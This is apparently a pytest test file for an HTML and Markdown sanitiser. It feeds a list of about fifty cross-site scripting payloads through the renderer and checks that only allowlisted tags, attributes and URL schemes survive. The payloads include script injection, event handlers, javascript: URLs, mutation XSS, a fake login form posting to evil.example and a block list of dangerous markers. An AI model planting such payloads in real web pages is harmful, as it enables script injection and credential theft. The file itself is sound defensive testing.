"""indexer/display/rendering.py by plain import: plain text as literal Markdown, answers as sanitised HTML.

The sanitiser is checked by what its output is, not by string matching: every hostile snippet is run
through `answer_html`, the result parsed with the standard library's HTML parser, and each tag,
attribute and URL compared with the allowlist.
"""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from indexer.display.rendering import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    answer_html,
    code_span,
    entry_href,
    entry_link,
    literal,
    sanitize_html,
    sentence,
)
from indexer.display.wording import plural

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" alt="" onerror="alert(1)"//>',
    "<img src=x onerror=alert(1)",  # unclosed
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',  # entity tricks: a tab, decimal and hex letters
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<svg onload=alert(1)><circle r=5 /></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",  # mutation XSS
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    "<style>body { display: none }</style>",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">cover</div>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<td style="text-align:left;position:fixed">x</td>',
    '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<a href="https://ok.example" onclick="alert(1)" onmouseover="alert(2)">x</a>',
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<x-tag onclick=alert(1)>x</x-tag>",
    "<!--<img src=x onerror=alert(1)>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<img id="body" name="cookie" class="stApp" src="x">',  # DOM clobbering, the page's own classes
    '<img srcset="https://evil.example/a.png 1x" src="x">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<table><tr><td><img src=x onerror=alert(1)></td></tr></table>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
]


class Elements(HTMLParser):
    """Every start tag with its attributes (values entity-decoded, as a browser reads them)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Elements()
    parser.feed(html)
    parser.close()
    return parser.found


def url_scheme(url: str) -> str | None:
    """The scheme a browser would see: control characters and spaces are ignored inside it."""
    cleaned = re.sub(r"[\x00-\x20]", "", url)
    match = re.match(r"([A-Za-z][A-Za-z0-9+.\-]*):", cleaned)
    return match[1].lower() if match else None


@pytest.mark.parametrize("snippet", HOSTILE)
def test_hostile_html_keeps_only_allowlisted_tags_attributes_and_urls(snippet):
    html = answer_html(f"Before {snippet} after")
    assert html.startswith("<div>") and html.endswith("</div>")
    for tag, attrs in elements(html[len("<div>") : -len("</div>")]):
        assert tag in ALLOWED_TAGS, (tag, html)
        for name, value in attrs.items():
            if tag == "a" and name == "rel":
                continue  # added by the sanitiser: "noopener noreferrer nofollow"
            assert name in ALLOWED_ATTRIBUTES.get(tag, ()), (tag, name, html)
            if name in ("href", "src"):
                assert url_scheme(value or "") in (None, "http", "https", "mailto"), html
            if name == "style":
                assert re.fullmatch(r"text-align:\s*(left|right|center);?", value or ""), html


@pytest.mark.parametrize("snippet", HOSTILE)
def test_an_answer_reaches_streamlits_markdown_as_one_raw_html_block(snippet):
    """Streamlit reads the string as Markdown with HTML allowed: it must be one HTML block, so no
    `$`, `*`, `:red[` or blank line in the answer can turn part of it back into Markdown."""
    tokens = MarkdownIt("commonmark").parse(answer_html(f"a $x$ *b* :red[c]\n\n{snippet}\n\n\nd"))
    assert [t.type for t in tokens] == ["html_block"]


def test_nothing_that_runs_survives_in_any_form():
    """The same, all snippets in one document and read as markup: text may still say "javascript:"."""
    markup = " ".join(f"<{tag} {attrs}>" for tag, attrs in elements(sanitize_html("\n".join(HOSTILE)))).lower()
    for marker in (
        "<script",
        "onerror",
        "onload",
        "onclick",
        "onfocus",
        "ontoggle",
        "javascript:",
        "vbscript:",
        "data:",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<svg",
        "<math",
        "<style",
        "<meta",
        "<base",
        "<link",
        "srcdoc",
        "srcset",
        "position:fixed",
        "z-index",
    ):
        assert marker not in markup, marker


def test_tables_code_lists_images_and_safe_links_are_kept():
    html = answer_html(
        "| tag | use |\n|-----|----:|\n| `<b>` | **bold** |\n\n"
        "- one\n- two\n\n```html\n<b>code stays as written</b>\n\nafter a blank line\n```\n\n"
        '![a chart](https://example.com/c.png) <a href="notes.md">notes</a> '
        "[mail](mailto:a@example.com) [web](https://example.com/?a=1&b=2) costs $5 and x$"
    )
    assert "<table>" in html and '<th style="text-align:right">use</th>' in html
    assert "<td><code>&lt;b&gt;</code></td>" in html and "<strong>bold</strong>" in html
    assert "<ul>&#10;<li>one</li>" in html
    assert "<pre><code>&lt;b&gt;code stays as written&lt;/b&gt;&#10;&#10;after a blank line" in html
    assert '<img src="https://example.com/c.png" alt="a chart">' in html
    assert '<a href="notes.md" rel="noopener noreferrer nofollow">notes</a>' in html
    assert 'href="mailto:a@example.com"' in html and 'href="https://example.com/?a=1&amp;b=2"' in html
    assert "costs $5 and x$" in html and "\n" not in html


def test_an_image_without_a_usable_source_keeps_its_alt_text():
    assert answer_html("![the diagram](data:image/png;base64,AAAA)") == '<div><p><img alt="the diagram"></p>&#10;</div>'
    assert 'alt="a table of results"' in answer_html('<img src="x" alt="a table of results" onerror="alert(1)">')


def test_entry_links_open_in_the_same_tab_and_quote_the_id():
    assert entry_href(17) == "?id=17" and entry_href("faq.md#12") == "?id=faq.md%2312"
    assert entry_link(17) == '<a href="?id=17" target="_self">#17</a>'
    link = entry_link('a"b<b>*x*</b>.md#1')  # a file name can hold anything
    assert [tag for tag, _ in elements(link)] == ["a"]
    assert "<b>" not in link and "*" not in link and '"b' not in link


# ---- plain text as literal Markdown ----------------------------------------------------------------


def test_literal_escapes_markdown_and_html():
    assert literal("Why <b>x</b> * 2 = $4?") == "Why `<b>`x`</b>` \\* 2 = \\$4?"
    assert literal(":red[a]") == "\\:red\\[a\\]"
    assert literal("a < b") == "a &lt; b"
    # a bracket would end a `:gray[...]` label even inside a code span, so such a tag is escaped instead
    assert literal('<a href="x]">') == '&lt;a href="x\\]">'
    assert code_span("a`b") == "``a`b``"


@pytest.mark.parametrize(
    "text",
    [
        "a ` b <img src=x onerror=alert(1)>",
        "use ` then <script>alert(1)</script> ok",
        "``x` <b>y</b> `",
        'x <a href="`">q</a> ` <i>',
        "<div`>a</div>",
        "https://example.com<br>now",
        "<scr<script>ipt>",
    ],
)
def test_literal_text_never_becomes_html(text):
    """Titles and names go through `literal` into Markdown lines that also hold entry links, rendered
    with HTML allowed: no part of the text may parse as HTML."""

    def tokens(found):
        for token in found:
            yield token
            yield from tokens(token.children or [])

    parsed = MarkdownIt("commonmark").parse(literal(text))
    assert [t.content for t in tokens(parsed) if t.type.startswith("html")] == []


def test_html_after_a_long_word_renders_in_linear_time():
    started = time.perf_counter()
    literal("a" * 50_000 + " <br>" + "b" * 50_000 + "<br>")
    assert time.perf_counter() - started < 0.5  # the quadratic autolink test took 11.7 s here


def test_counts_and_messages_read_as_sentences():
    assert [plural(n, "entry", "entries") for n in (0, 1, 2)] == ["0 entries", "1 entry", "2 entries"]
    assert plural(1, "warning") == "1 warning" and plural(3, "warning") == "3 warnings"
    assert sentence("also searched for: BERT") == "Also searched for: BERT"  # the rest kept
